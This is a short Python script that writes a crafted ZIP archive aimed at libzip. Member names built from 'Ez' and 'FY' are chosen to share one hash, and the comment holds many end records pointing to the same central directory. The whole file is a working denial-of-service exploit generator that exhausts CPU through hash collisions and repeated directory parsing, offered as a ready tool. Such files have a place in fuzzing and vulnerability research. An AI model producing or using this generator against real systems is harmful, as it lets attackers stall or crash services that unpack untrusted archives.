# SPDX-License-Identifier: MIT
"""
usage: make_colliding_names.py ARCHIVE COUNT ENDS

Make ARCHIVE of COUNT empty members whose names have one hash in libzip, which would compare
each with each: "Ez" and "FY" are the same to it, and so is any row of them. Its comment holds
ENDS end records, each of which leads to the same directory.
"""

import struct
import sys

path, count, ends = sys.argv[1], int(sys.argv[2]), int(sys.argv[3])
entries = []
for i in range(count):
    name = b"".join((b"Ez", b"FY")[i >> bit & 1] for bit in range(16))
    entries.append(struct.pack("<IHHHHHHIIIHHHHHII", 0x02014B50, 20, 20, 0, 0, 0, 33, 0, 0, 0,
                               len(name), 0, 0, 0, 0, 0, 0) + name)
central = b"".join(entries)
local = struct.pack("<IHHHHHIIIHH", 0x04034B50, 20, 0, 0, 0, 33, 0, 0, 0, 32, 0) + b"Ez" * 16
def end(comment):
    return struct.pack("<IHHHHIIH", 0x06054B50, 0, 0, count, count, len(central), len(local),
                       comment)
tail = b"".join(end(0) for _ in range(ends))
open(path, "wb").write(local + central + end(len(tail)) + tail)
